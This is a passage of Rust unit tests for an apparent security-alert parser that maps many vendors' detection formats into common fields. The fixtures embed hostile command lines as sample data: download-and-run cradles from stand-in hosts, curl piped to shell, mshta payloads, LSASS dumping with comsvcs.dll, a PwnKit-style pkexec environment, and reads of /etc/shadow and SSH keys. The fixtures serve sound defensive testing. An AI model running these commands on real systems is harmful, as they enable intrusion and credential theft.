        let sb = from_json(json!({"source": "HR-LT-0193", "message": "Creating Scriptblock text (1 of 2):\r\niex (New-Object Net.WebClient).DownloadString('http://x/a')\r\n\r\nScriptBlock ID: 4e7a0c91\r\nPath: "}), "x").unwrap();
        assert_eq!(
            sb.doc["powershell"]["file"]["script_block_text"],
            "iex (New-Object Net.WebClient).DownloadString('http://x/a')"
        );
        assert_eq!(sb.doc["powershell"]["file"]["script_block_id"], "4e7a0c91");
        assert_eq!(sb.doc["powershell"]["total"], 2);
        // GELF (Graylog, Fluent Bit): the line under `short_message`, the host a string.
        let g = from_json(json!({"version": "1.1", "host": "MBP-7", "_facility": "santa",
            "short_message": "[2025-07-29T16:40:12.551Z] I santad: action=EXEC|decision=ALLOW|reason=UNKNOWN|pid=3381|ppid=1|uid=501|user=mr|path=/Users/mr/.n/node|args=node /Users/mr/.n/i.js"}), "x").unwrap();
        assert_eq!(g.doc["process"]["executable"], "/Users/mr/.n/node");
        assert_eq!(g.doc["host"]["name"], "MBP-7");
        // cron's log line for a job (journald's JSON export): sh -c as the job's user.
        let cr = from_json(json!({"_HOSTNAME": "cms-1", "SYSLOG_IDENTIFIER": "CRON", "MESSAGE": "(www-data) CMD (curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1)"}), "x").unwrap();
        assert_eq!(
            cr.doc["process"]["command_line"],
            "/bin/sh -c curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1"
        );
        assert_eq!(cr.doc["process"]["parent"]["name"], "cron");
        assert_eq!(cr.doc["user"]["name"], "www-data");
        assert_eq!(cr.doc["host"]["name"], "cms-1");
        // LEEF (CrowdStrike's SIEM connector) and CEF (a firewall) lines under a message field.
        let leef = from_json(json!({"event": {"original": "<12>Jun 19 10:14:36 conn CrowdStrike LEEF:1.0|CrowdStrike|FalconHost|1.0|Suspicious Activity|cat=DetectionSummaryEvent\tresource=WKS-5\tusrName=jt\tfileName=mshta.exe\tfilePath=\\Device\\HarddiskVolume3\\Windows\\System32\\mshta.exe\tcommandLine=mshta.exe https://x.example/v.hta\tparentImageFileName=\\Device\\HarddiskVolume3\\Program Files\\Office\\WINWORD.EXE"}}), "x").unwrap();
        assert_eq!(
            leef.doc["process"]["executable"],
            "C:\\Windows\\System32\\mshta.exe"
        );
        assert_eq!(
            leef.doc["process"]["command_line"],
            "mshta.exe https://x.example/v.hta"
        );
        assert_eq!(leef.doc["process"]["parent"]["name"], "WINWORD.EXE");
        assert_eq!(leef.doc["user"]["name"], "jt");
        assert_eq!(leef.doc["host"]["name"], "WKS-5");
        let cef = from_json(json!({"message": "<189>CEF:0|Fortinet|Fortigate|v7.2.8|13312|utm:webfilter blocked|4|src=10.30.2.27 dst=203.0.113.200 dpt=80 act=blocked request=http://203.0.113.200/ldr.sh msg=URL belongs to a denied category requestClientApplication=curl/7.88.1"}), "x").unwrap();
        assert_eq!(cef.doc["url"]["full"], "http://203.0.113.200/ldr.sh");
        assert_eq!(cef.doc["user_agent"]["original"], "curl/7.88.1");
        assert_eq!(cef.doc["destination"]["port"], 80);
        assert_eq!(cef.doc["source"]["ip"], "10.30.2.27");
        assert_eq!(cef.doc["observer"]["product"], "Fortigate");
        // A Sysdig Secure event: Falco's fields under `content.fields`, the rule as `ruleName`.
        let sd = from_json(json!({"id": "sd-1", "timestamp": "2025-04-02T09:14:55Z", "severity": 2, "name": "Sysdig Runtime Threat Detection",
            "labels": {"host.hostName": "ip-10-80-14-201"},
            "content": {"ruleName": "Base64 piped to shell", "ruleTags": ["T1059.004"], "output": "x",
                "fields": {"proc.cmdline": "sh -c echo aWQ= | base64 -d | sh", "proc.exepath": "/bin/dash", "proc.pname": "node", "user.name": "node"}}}), "x").unwrap();
        assert_eq!(sd.id, "sd-1");
        assert_eq!(sd.doc["process"]["parent"]["name"], "node");
        assert_eq!(sd.doc["host"]["name"], "ip-10-80-14-201");
        assert_eq!(sd.doc["rule"]["name"], "Base64 piped to shell");
    }

    #[test]
    fn sequences_and_lineage_their_exports_carry() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Elastic Defend's behaviour alert: the sequence's other event joins as a branch and the
        // alert's own event lends its effective user.
        let el = json!({"event": {"kind": "alert"}, "host": {"name": "m1", "os": {"type": "macos"}},
            "process": {"entity_id": "B", "name": "sudo", "executable": "/usr/bin/sudo", "args": ["sudo", "-S", "id"]},
            "Events": [
                {"process": {"entity_id": "A", "args": ["osascript", "-e", "display dialog \"pw\" with hidden answer"]}},
                {"process": {"entity_id": "B", "args": ["sudo", "-S", "id"]}, "user": {"name": "u", "effective": {"name": "root"}}}]});
        let a = from_json(el, "x").unwrap();
        assert_eq!(get(&a, "user.effective.name"), "root");
        assert!(get(&a, "process.command_line").contains("\nosascript -e"));
        // A 4688 message whose command line is empty: the event's explanation is not the
        // command, and the new process's own account is the one under Target Subject.
        let q = json!({"events": [{"qid": 1, "utf8_payload": "<13>Apr 25 06:12:09 WS4 AgentDevice=WindowsLog\tAgentLogFile=Security\tComputer=WS4\tEventID=4688\tMessage=A new process has been created.  Creator Subject:  Security ID:  S-1-5-18  Account Name:  WS4$  Account Domain:  NQM  Logon ID:  0x3E7  Target Subject:  Security ID:  S-1-5-21-1-2-3-6380  Account Name:  j.w  Account Domain:  NQM  Logon ID:  0x6D1E2A  Process Information:  New Process ID:  0x3a2c  New Process Name:  C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe  Token Elevation Type:  %%1938  Mandatory Label:  S-1-16-8192  Creator Process ID:  0x5f0  Creator Process Name:  C:\\Windows\\System32\\svchost.exe  Process Command Line:  Token Elevation Type indicates the type of token that was assigned to the new process."}]});
        let a = from_json(q, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "");
        assert!(get(&a, "user.name").ends_with("j.w"), "{:?}", a.doc["user"]);
        // Falcon Data Replicator: the parent's and grandparent's command lines.
        let f = json!({"event_simpleName": "ProcessRollup2", "aid": "a1", "event_platform": "Lin", "ImageFileName": "/usr/bin/curl",
            "CommandLine": "curl -fsSL https://x/i.sh", "ParentBaseFileName": "dash", "ParentCommandLine": "/bin/sh /var/lib/cloud/instance/scripts/runcmd",
            "GrandParentBaseFileName": "runcmd", "ComputerName": "h1"});
        let a = from_json(f, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "/bin/sh /var/lib/cloud/instance/scripts/runcmd"
        );
        assert_eq!(get(&a, "process.parent.parent.name"), "runcmd");
        // Sumo Logic Cloud SIEM's signals API (`allRecords`, epoch-millisecond timestamps):
        // normalised records, the newest judged, its parent's record giving the grandparent.
        let sumo = json!({"id": "s1", "name": "r", "allRecords": [
            {"timestamp": 1000, "metadata_vendor": "Jamf", "baseImage": "/bin/sh", "commandLine": "/bin/sh /tmp/p.sh",
             "parentBaseImage": "/usr/libexec/launchd_helper", "device_hostname": "mac1", "device_osName": "macOS 15.3", "user_username": "root"},
            {"timestamp": 2000, "metadata_vendor": "Jamf", "baseImage": "/bin/launchctl", "process": "/bin/launchctl",
             "commandLine": "launchctl load -w /Library/LaunchDaemons/x.plist", "parentBaseImage": "/bin/sh",
             "parentCommandLine": "/bin/sh /tmp/p.sh", "device_hostname": "mac1", "user_username": "root"}]});
        let a = from_json(sumo, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "launchctl");
        assert_eq!(
            get(&a, "process.command_line"),
            "launchctl load -w /Library/LaunchDaemons/x.plist"
        );
        assert_eq!(
            get(&a, "process.parent.parent.executable"),
            "/usr/libexec/launchd_helper"
        );
        assert_eq!(get(&a, "host.os.type"), "macos");
        // Wazuh's auditd decoder: the names auditd's enriched format adds, and the terminal.
        let w = json!({"rule": {"id": "1"}, "agent": {"name": "nc1"}, "full_log": "type=SYSCALL msg=audit(1.6:2): pid=2 auid=1001 uid=33 tty=pts1 comm=\"php\" exe=\"/usr/bin/php8.3\" AUID=\"alice\" UID=\"www-data\" EUID=\"www-data\"",
            "data": {"audit": {"exe": "/usr/bin/php8.3", "command": "php", "uid": "33", "auid": "1001", "tty": "pts1", "execve": {"a0": "php", "a1": "occ"}}}});
        let a = from_json(w, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "www-data");
        assert_eq!(get(&a, "user.audit.name"), "alice");
        assert_eq!(a.doc["process"]["interactive"], true);
    }

    #[test]
    fn cases_tickets_and_wrapped_signals() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // A case comment holding the alert's fields as a Markdown table, and as aligned lines
        // in a fence (a console's flyout copied).
        let md = json!({"title": "Cron job created", "comments": [{"comment": "Enrichment:\n\n| field | value |\n|---|---|\n| host.name | lin-1 (Ubuntu 24.04) |\n| process.command_line | `/bin/sh /var/lib/dpkg/info/x.postinst configure` |\n| process.parent.command_line | `/usr/bin/dpkg --configure --pending` |\n"}]});
        let a = from_json(md, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/sh /var/lib/dpkg/info/x.postinst configure"
        );
        assert_eq!(get(&a, "host.name"), "lin-1");
        let fenced = json!({"title": "JXA", "comments": [{"comment": "Copied:\n\n```\nhost.name                  MBP-1   (macOS 15.5)\nprocess.command_line       osascript -l JavaScript -e eval(x)\nprocess.executable         /usr/bin/osascript\n```\n"}]});
        let a = from_json(fenced, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/usr/bin/osascript");
        assert_eq!(get(&a, "host.name"), "MBP-1");
        // A Jira issue with the raw event in a `{noformat}` block.
        let jira = json!({"key": "SEC-1", "fields": {"summary": "Script block", "description": "h3. Splunk alert\n{noformat}\n<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Computer>WS1</Computer></System><EventData><Data Name='ScriptBlockText'>iex (iwr http://203.0.113.7/a)</Data></EventData></Event>\n{noformat}\n"}});
        let a = from_json(jira, "x").unwrap();
        assert!(get(&a, "powershell.file.script_block_text").contains("iwr"));
        // A Sumo Logic insight: its signals' records.
        let insight = json!({"data": {"readableId": "INSIGHT-1", "signals": [{"allRecords": [
            {"timestamp": 1000, "metadata_vendor": "osquery", "baseImage": "/usr/bin/dscl", "commandLine": "/usr/bin/dscl . -create /Users/_x", "device_hostname": "m1", "device_os": "macos"}]},
            {"allRecords": [{"timestamp": 2000, "metadata_vendor": "osquery", "baseImage": "/usr/sbin/dseditgroup", "commandLine": "/usr/sbin/dseditgroup -o edit -a _x -t user admin", "device_hostname": "m1"}]}]}});
        let a = from_json(insight, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("/usr/sbin/dseditgroup"));
        assert!(get(&a, "process.command_line").contains("\n/usr/bin/dscl . -create"));
        assert_eq!(get(&a, "host.os.type"), "macos");
        // A SentinelOne threat whose arguments are the Script Host's switches.
        let s1 = json!({"threatInfo": {"threatId": "1", "filePath": "\\Device\\HarddiskVolume3\\Users\\k\\AppData\\Local\\Temp\\p.log",
            "maliciousProcessArguments": "//E:jscript //B \"C:\\Users\\k\\AppData\\Local\\Temp\\p.log\"", "originatorProcess": "WINWORD.EXE"},
            "agentRealtimeInfo": {"agentComputerName": "LT1", "agentOsType": "windows"}});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "wscript.exe");
        assert_eq!(get(&a, "process.parent.name"), "WINWORD.EXE");
        // An argument vector as a list in a rule's context (Panther's `alertContext.argv`).
        let panther = json!({"alertId": "a1", "title": "Shell from python", "alertContext": {"host": "www-1", "exe": "/usr/bin/dash",
            "argv": ["/bin/sh", "-c", "systemctl reload nginx"], "parent_argv": ["/usr/bin/python3", "/usr/bin/certbot", "renew"]}});
        let a = from_json(panther, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/bin/sh -c 'systemctl reload nginx'"
        );
        assert!(get(&a, "process.parent.command_line").contains("certbot renew"));
    }

    #[test]
    fn single_santa_events_and_jamf_siblings() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // One Santa sync event on its own, as a SIEM keeps it.
        let santa = json!({"file_sha256": "e4", "file_path": "/Users/l/Library/Application Support/.x", "file_name": "syncd",
            "executing_user": "l", "decision": "BLOCK_UNKNOWN", "pid": 7, "ppid": 6, "parent_name": "bash", "hostname": "MBP-L"});
        let a = from_json(santa, "x").unwrap();
        assert_eq!(
            get(&a, "process.executable"),
            "/Users/l/Library/Application Support/.x/syncd"
        );
        assert_eq!(get(&a, "host.name"), "MBP-L");
        // Jamf Protect: a sibling the judged process's parent started after it (the `sudo -S`
        // that read the prompt's answer) follows its command line; its ancestors do not.
        let proc_ = |pid: i64, ppid: i64, path: &str, args: &[&str]| json!({"pid": pid, "ppid": ppid, "path": path, "args": args, "uid": 501});
        let jp = json!({"input": {"eventType": "GPProcessEvent", "host": {"hostname": "MBP-2"},
            "match": {"uuid": "u", "event": {"pid": 10}, "facts": []},
            "related": {"processes": [
                proc_(10, 9, "/usr/bin/osascript", &["osascript", "-e", "display dialog \"pw\" with hidden answer"]),
                proc_(9, 8, "/Users/a/.h/helperd", &["/Users/a/.h/helperd"]),
                proc_(8, 1, "/Applications/Terminal.app/Contents/MacOS/Terminal", &["Terminal"]),
                proc_(11, 9, "/usr/bin/sudo", &["sudo", "-S", "cp", "/Users/a/.h/helperd", "/usr/local/bin/.h"])]}}});
        let a = from_json(jp, "x").unwrap();
        let cmd = get(&a, "process.command_line");
        assert!(cmd.starts_with("osascript -e"), "{cmd}");
        assert!(cmd.contains("\nsudo -S cp"), "{cmd}");
        assert!(!cmd.contains("Terminal"), "{cmd}");
    }

    #[test]
    fn session_22_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // OCSF Process Activity: `process` launched by `actor.process`, the device's OS by id.
        let ocsf = json!({"class_uid": 1007, "activity_id": 1, "metadata": {"version": "1.1.0", "product": {"name": "Falcon"}},
            "device": {"hostname": "app-1", "os": {"type_id": 200, "name": "Ubuntu"}},
            "process": {"pid": 9, "cmd_line": "bash -c id", "file": {"path": "/usr/bin/bash"},
                "user": {"name": "svc_nessus", "uid": "1204"}},
            "actor": {"process": {"pid": 8, "name": "sshd", "file": {"path": "/usr/sbin/sshd"}}}});
        let a = from_json(ocsf, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "bash -c id");
        assert_eq!(get(&a, "process.parent.executable"), "/usr/sbin/sshd");
        assert_eq!(get(&a, "user.name"), "svc_nessus");
        assert_eq!(get(&a, "host.os.type"), "linux");
        // OCSF Detection Finding: the process among `evidences`, the rule and its techniques.
        let finding = json!({"class_uid": 2004, "metadata": {"product": {"name": "X"}, "uid": "m1"},
            "finding_info": {"uid": "f1", "title": "T", "analytic": {"name": "Rule"}, "attacks": [{"technique": {"uid": "T1059.004"}}]},
            "device": {"name": "mac-1", "os": {"type": "macOS"}},
            "evidences": [{"process": {"cmd_line": "sh -c curl x", "file": {"path": "/bin/sh"},
                "parent_process": {"cmd_line": "node i.js", "file": {"path": "/usr/local/bin/node"}}},
                "dst_endpoint": {"ip": "203.0.113.7", "port": 80}}]});
        let a = from_json(finding, "x").unwrap();
        assert_eq!(get(&a, "process.parent.command_line"), "node i.js");
        assert_eq!(get(&a, "host.os.type"), "macos");
        assert_eq!(get(&a, "destination.ip"), "203.0.113.7");
        assert_eq!(get(&a, "rule.name"), "Rule");
        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        // A Panther destination payload: the rule's context is the event.
        let panther = json!({"id": "Rule.X", "alertId": "p1", "logTypes": ["SentinelOne.DeepVisibilityV2"],
            "alertContext": {"event.type": "Process Creation", "endpoint.name": "MBP-1", "endpoint.os": "osx",
                "src.process.image.path": "/Volumes/I/Install", "src.process.cmdline": "/Volumes/I/Install",
                "tgt.process.image.path": "/bin/bash", "tgt.process.cmdline": "bash -c id"}});
        let a = from_json(panther, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "bash -c id");
        assert_eq!(get(&a, "process.parent.executable"), "/Volumes/I/Install");
        // CEF parsed into JSON: the source process started the destination process.
        let cef = json!({"cefVersion": "0", "deviceVendor": "V", "deviceProduct": "P", "deviceEventClassId": "1",
            "name": "n", "sproc": "powershell.exe", "dproc": "cmd.exe", "cmdline": "cmd.exe /c whoami", "suser": "D\\u", "shost": "H"});
        let a = from_json(cef, "x").unwrap();
        assert_eq!(get(&a, "process.name"), "cmd.exe");
        assert_eq!(get(&a, "process.parent.name"), "powershell.exe");
        assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
        assert_eq!(get(&a, "host.name"), "H");
        // GuardDuty as the SDKs export it, in PascalCase.
        let gd = json!({"Type": "PrivilegeEscalation:Runtime/DockerSocketAccessed", "Id": "g1", "Resource": {},
            "Service": {"RuntimeDetails": {"Process": {"Name": "curl", "ExecutablePath": "/usr/bin/curl", "User": "app",
                "Lineage": [{"Name": "sh", "ExecutablePath": "/usr/bin/dash"}]}}}});
        let a = from_json(gd, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/usr/bin/curl");
        assert_eq!(get(&a, "process.parent.executable"), "/usr/bin/dash");
        // A Santa sync event under `event`, with its arguments.
        let santa = json!({"machine_id": "M", "hostname": "MBP-2", "event": {"file_path": "/Users/a/Downloads/.c",
            "file_name": "x", "decision": "ALLOW_UNKNOWN", "executing_user": "a", "parent_name": "bash", "args": ["/Users/a/Downloads/.c/x", "--d"]}});
        let a = from_json(santa, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "/Users/a/Downloads/.c/x --d"
        );
        assert_eq!(get(&a, "process.parent.name"), "bash");
        assert_eq!(get(&a, "host.name"), "MBP-2");
        // A MalOp with flat suspects: the suspect's parent is the root cause of that name.
        let malop = json!({"machines": [{"displayName": "wks-1", "osType": "WINDOWS"}], "detectionTypes": ["D"],
            "rootCauseElements": [{"elementName": "a.exe", "imageFile.path": "c:\\programdata\\a.exe", "commandLine": "a.exe /b", "parentProcess": "explorer.exe"}],
            "suspects": [{"elementName": "powershell.exe", "commandLine": "powershell -enc AA==", "parentProcess": "a.exe",
                "connections": [{"remoteAddress": "203.0.113.9", "remotePort": 443}]}]});
        let a = from_json(malop, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "powershell -enc AA==");
        assert_eq!(
            get(&a, "process.parent.executable"),
            "c:\\programdata\\a.exe"
        );
        assert_eq!(get(&a, "destination.ip"), "203.0.113.9");
        // Uptycs: the matched column's value is the command line.
        let up = json!({"id": "u1", "assetId": "a", "assetHostName": "bastion-2", "key": "cmdline", "value": "find / -name id_rsa",
            "metadata": {"path": "/usr/bin/find", "parent_path": "/usr/bin/bash"}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "find / -name id_rsa");
        assert_eq!(get(&a, "host.name"), "bastion-2");
        // Wazuh: a full log of two audit events; the earlier exec of the same process (pkexec
        // with no arguments, as www-data) is its parent, the names are its own record's.
        let w = json!({"rule": {"id": "1"}, "agent": {"name": "r1"}, "decoder": {"name": "auditd"},
            "full_log": "type=SYSCALL msg=audit(1.3:7): syscall=59 a0=7ffc a1=0 ppid=4 pid=5 uid=33 euid=0 comm=\"pkexec\" exe=\"/usr/bin/pkexec\" UID=\"www-data\" EUID=\"root\" type=EXECVE msg=audit(1.3:7): argc=0 type=SYSCALL msg=audit(1.4:9): syscall=59 ppid=5 pid=5 uid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/dash\" UID=\"root\" EUID=\"root\" type=EXECVE msg=audit(1.4:9): argc=1 a0=\"/bin/sh\"",
            "data": {"audit": {"id": "9", "pid": "5", "ppid": "5", "uid": "0", "euid": "0", "command": "sh", "exe": "/usr/bin/dash", "execve": {"a0": "/bin/sh"}}}});
        let a = from_json(w, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "root");
        assert_eq!(get(&a, "process.parent.name"), "pkexec");
        assert_eq!(get(&a, "process.parent.user.name"), "www-data");
        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
        // A rule's context of a sudo line: the invoking user, and root as the effective one.
        let ctx = json!({"alertId": "p2", "runbook": "r", "alertContext": {"host": "h", "user": "n", "run_as": "root",
            "command": "/usr/bin/find /etc -exec /bin/sh -p ;", "pwd": "/home/n"}});
        let a = from_json(ctx, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "n");
        assert_eq!(get(&a, "user.effective.name"), "root");
        assert_eq!(get(&a, "process.parent.name"), "sudo");
        // Cisco Secure Endpoint: the URL names the connection's host.
        let cse = json!({"id": 1, "event_type": "Cloud IOC", "connector_guid": "c", "computer": {"hostname": "m", "connector_guid": "c"},
            "file": {"file_name": "python3", "file_path": "/usr/bin/python3"}, "command_line": {"arguments": "python3 -m pip install x"},
            "network_info": {"remote_ip": "151.101.0.223", "remote_port": 443, "dirty_url": "https://pypi.org/simple/x/"}});
        let a = from_json(cse, "x").unwrap();
        assert_eq!(get(&a, "destination.domain"), "pypi.org");
        // A Sentinel alert whose custom details name the logon: a task registered over the
        // network from a workstation, the Task Scheduler its parent.
        let details = json!({"LogonType": ["3"], "SourceIp": ["10.4.8.1"], "SourceWorkstation": ["WKS-1"],
            "ExecutedParent": ["C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"]});
        let ext = json!({"Custom Details": details.to_string()});
        let entities = json!([{"$id": "2", "HostName": "SRV-1", "Type": "host"},
            {"$id": "3", "CommandLine": "powershell.exe -enc AA==", "Type": "process"}]);
        let sa = json!({"AlertName": "Remote task", "SystemAlertId": "s1", "ProviderName": "ASI Scheduled Alerts",
            "ExtendedProperties": ext.to_string(), "Entities": entities.to_string()});
        let a = from_json(sa, "x").unwrap();
        assert_eq!(get(&a, "winlog.logon.type"), "Network");
        assert_eq!(get(&a, "source.ip"), "10.4.8.1");
        assert!(get(&a, "process.parent.command_line").ends_with("-s Schedule"));
        // eslogger: the account's name from the exec's environment.
        let es = json!({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/security"},
                "audit_token": {"pid": 3, "euid": 501, "ruid": 501}},
            "args": ["security", "find-generic-password", "-w"], "env": ["USER=afischer", "HOME=/Users/afischer"]}},
            "process": {"executable": {"path": "/bin/zsh"}, "audit_token": {"pid": 2, "euid": 501}}});
        let a = from_json(es, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "afischer");
    }

    #[test]
    fn session_22_second_batch_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // Sophos XDR detections: the Data Lake event under `raw` (or `rawData`).
        let sx = json!({"id": "d1", "detectionRule": "WIN-1", "detectionDescription": "cradle", "device": {"entity": "PC-1"},
            "sensor": {"source": "Sophos Intercept X"}, "mitreAttacks": [{"tactic": {"techniques": [{"id": "T1059.001"}]}}],
            "rawData": {"meta_hostname": "PC-1", "meta_os_platform": "windows", "meta_username": "NT AUTHORITY\\SYSTEM",
                "path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "cmd_line": "powershell -c iex x",
                "parent_path": "C:\\Windows\\System32\\cmd.exe", "grandparent_name": "AgentExecutor.exe",
                "network": [{"remote_host": "nexus.corp.example", "remote_ip": "10.2.4.6", "remote_port": 443}]}});
        let a = from_json(sx, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "powershell -c iex x");
        assert_eq!(get(&a, "process.parent.parent.name"), "AgentExecutor.exe");
        assert_eq!(get(&a, "user.name"), "SYSTEM");
        assert_eq!(get(&a, "destination.domain"), "nexus.corp.example");
        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        // Sophos Central: the detection's process and child as objects.
        let sc = json!({"type": "Event::Endpoint::CoreDetection", "customer_id": "c", "name": "Malicious behaviour detected",
            "location": "LT-1", "threat": "Creds_1a", "detection_identity": {"mitre": ["T1003.001"]},
            "core_remedy_items": {"items": [{"type": "process", "descriptor": "C:\\Windows\\System32\\rundll32.exe"}]},
            "process": {"path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "cmdline": "powershell -c x",
                "parent": "C:\\Windows\\explorer.exe", "user": "D\\u", "integrity": "High"},
            "child": {"path": "C:\\Windows\\System32\\rundll32.exe", "cmdline": "rundll32 comsvcs.dll, MiniDump 1 d full"}});
        let a = from_json(sc, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "rundll32 comsvcs.dll, MiniDump 1 d full"
        );
        assert_eq!(get(&a, "process.parent.command_line"), "powershell -c x");
        assert_eq!(get(&a, "user.name"), "u");
        // Uptycs: the parent's argument count and environment, and the children as branches.
        let up = json!({"id": "u2", "assetId": "a", "hostName": "qms-1", "metadata": {"path": "/usr/bin/sh", "cmdline": "/bin/sh",
            "euid": 0, "parent_path": "/usr/bin/pkexec", "parent_argc": 0, "parent_env": "GCONV_PATH=./x; CHARSET=PWNKIT",
            "children": [{"cmdline": "cat /etc/shadow"}]}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
        assert_eq!(
            a.doc["process"]["parent"]["env_vars"],
            json!(["GCONV_PATH=./x", "CHARSET=PWNKIT"])
        );
        assert!(get(&a, "process.command_line").contains("\ncat /etc/shadow"));
        // Defender AlertEvidence: the parent from the entity in `AdditionalFields`.
        let ae = json!({"Timestamp": "t", "AlertId": "da1", "DeviceName": "mbp-1", "EntityType": "Process", "FileName": "osascript",
            "FolderPath": "/usr/bin/osascript", "ProcessCommandLine": "osascript -e x", "AccountName": "ak",
            "AdditionalFields": "{\"ParentProcess\": {\"ImageFile\": {\"FileName\": \"Conv\", \"DirectoryPath\": \"/Users/ak/.local-1\"}, \"CommandLine\": \"/Users/ak/.local-1/Conv\"}}"});
        let a = from_json(ae, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.executable"),
            "/Users/ak/.local-1/Conv"
        );
        // winlogbeat: the event's own fields fill what its ECS mapping left out.
        let wb = json!({"@timestamp": "t", "host": {"name": "w1"}, "event": {"code": "1"},
            "process": {"executable": "C:\\Windows\\System32\\certutil.exe", "command_line": "certutil -addstore Root x.cer",
                "parent": {"executable": "C:\\Windows\\System32\\cmd.exe"}},
            "winlog": {"event_id": "1", "channel": "Microsoft-Windows-Sysmon/Operational", "event_data": {"Image": "C:\\Windows\\System32\\certutil.exe",
                "CommandLine": "certutil -addstore Root x.cer", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
                "ParentCommandLine": "cmd.exe /c \\\\dom\\SysVol\\dom\\Policies\\{1}\\Machine\\Scripts\\Startup\\pki.cmd", "IntegrityLevel": "System"}}});
        let a = from_json(wb, "x").unwrap();
        assert!(get(&a, "process.parent.command_line").ends_with("pki.cmd"));
        assert_eq!(
            get(&a, "process.executable"),
            "C:\\Windows\\System32\\certutil.exe"
        );
        // Sentinel's SecurityEvent: the row's CommandLine where its EventData XML has none.
        let se = json!({"Type": "SecurityEvent", "EventID": 4688, "Computer": "LT-2", "CommandLine": "msiexec /i C:\\Windows\\IMECache\\a.msi",
            "EventData": "<EventData><Data Name=\"NewProcessName\">C:\\Windows\\System32\\msiexec.exe</Data><Data Name=\"SubjectUserName\">LT-2$</Data></EventData>"});
        let a = from_json(se, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "msiexec /i C:\\Windows\\IMECache\\a.msi"
        );
        // WinCollect's payload with its tabs turned into spaces.
        let wc = json!({"offense_type": 0, "magnitude": 6, "events": [{"qidname_qid": "Process Create",
            "utf8_payload": "<13>Dec 30 11:45:02 LT-3 AgentDevice=WindowsLog AgentLogFile=Microsoft-Windows-Sysmon/Operational Source=Microsoft-Windows-Sysmon Computer=LT-3 EventID=1 User=D\\bh Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe CommandLine=powershell.exe -nop -w hidden -enc SQBFAFgA ParentImage=C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}]});
        let a = from_json(wc, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "powershell.exe -nop -w hidden -enc SQBFAFgA"
        );
        assert!(get(&a, "process.parent.executable").ends_with("WINWORD.EXE"));
        // Falcon: the detection's outbound connection.
        let cs = json!({"composite_id": "c:ind:1", "device": {"hostname": "mq-1"}, "product": "epp", "type": "ldt", "name": "CurlPipedToShell",
            "cmdline": "bash -c curl -fsSL https://artifacts.corp.example/i.sh | bash", "filepath": "/usr/bin/bash", "user_name": "root",
            "parent_details": {"cmdline": "/usr/bin/salt-minion", "filepath": "/opt/saltstack/salt/bin/python3.10"},
            "network_accesses": [{"connection_direction": 0, "remote_address": "10.20.0.40", "remote_port": 443}]});
        let a = from_json(cs, "x").unwrap();
        assert_eq!(get(&a, "destination.ip"), "10.20.0.40");
        assert_eq!(a.doc["destination"]["port"], json!(443));
        // Tetragon: the first ancestor's command (the pipeline feeding the process).
        let tg = json!({"process_exec": {"process": {"binary": "/usr/bin/python3.10", "arguments": "", "uid": 0, "pid": 9},
            "parent": {"binary": "/usr/bin/sudo", "arguments": "python3"},
            "ancestors": [{"binary": "/usr/bin/bash", "arguments": "-c \"curl -sSf https://x.example/m.py | sudo python3\""}]}});
        let a = from_json(tg, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "/usr/bin/bash -c \"curl -sSf https://x.example/m.py | sudo python3\""
        );
        // Uptycs: the oldest ancestor below launchd is the session's entry.
        let up = json!({"id": "u3", "assetId": "a", "hostName": "mbp-1", "metadata": {"path": "/usr/bin/osascript", "cmdline": "osascript -e x",
            "ancestor_list": [{"path": "/usr/bin/sudo"}, {"path": "/bin/launchctl"}, {"path": "/bin/bash", "cmdline": "/bin/bash /Library/Application Support/JAMF/tmp/p"},
